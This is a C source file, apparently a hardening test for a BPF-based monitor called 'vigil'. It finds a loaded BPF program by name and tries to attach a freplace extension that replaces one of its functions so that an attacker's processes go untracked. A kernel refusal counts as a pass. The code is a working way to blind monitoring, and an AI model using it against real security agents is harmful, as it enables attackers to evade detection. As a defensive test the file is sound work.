// SPDX-License-Identifier: GPL-2.0
/*
 * vigil-freplace - the freplace attack on vigil's running programs: load a
 * BPF_PROG_TYPE_EXT program that replaces FUNC inside the loaded program
 * named PROG (e.g. vigil_agent_of_current in vigil_exec, so the attacker's
 * processes are never tracked), and attach it.
 *
 * usage: vigil-freplace PROG FUNC
 * Exit 0 when the kernel refuses (load or attach), 1 when the attack works,
 * 2 when PROG is not loaded.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include <bpf/bpf.h>
#include <bpf/libbpf.h>

#include "freplace.skel.h"

static int find_prog(const char *name)
{
	struct bpf_prog_info info;
	__u32 id = 0, len;
	int fd;

	while (!bpf_prog_get_next_id(id, &id)) {
		fd = bpf_prog_get_fd_by_id(id);
		if (fd < 0)
			continue;
		memset(&info, 0, sizeof(info));
		len = sizeof(info);
		if (!bpf_obj_get_info_by_fd(fd, &info, &len) && !strcmp(info.name, name))
			return fd;
		close(fd);
	}
	return -1;
}

int main(int argc, char **argv)
{
	struct freplace *skel;
	struct bpf_link *link;
	int target, err;

	if (argc != 3) {
		fprintf(stderr, "usage: %s PROG FUNC\n", argv[0]);
		return 2;
	}
	target = find_prog(argv[1]);
	if (target < 0) {
		fprintf(stderr, "no loaded BPF program named %s\n", argv[1]);
		return 2;
	}
	skel = freplace__open();
	if (!skel)
		return 2;
	if (bpf_program__set_attach_target(skel->progs.fake_agent_of_current, target, argv[2])) {
		printf("refused: %s has no function %s\n", argv[1], argv[2]);
		return 0;
	}
	err = freplace__load(skel);
	if (err) {
		printf("refused at load: %s\n", strerror(-err));
		freplace__destroy(skel);
		return 0;
	}
	link = bpf_program__attach_freplace(skel->progs.fake_agent_of_current, target, argv[2]);
	if (!link) {
		printf("refused at attach: %s\n", strerror(errno));
		freplace__destroy(skel);
		return 0;
	}
	printf("ATTACK SUCCEEDED: %s in %s replaced\n", argv[2], argv[1]);
	bpf_link__destroy(link);
	freplace__destroy(skel);
	return 1;
}
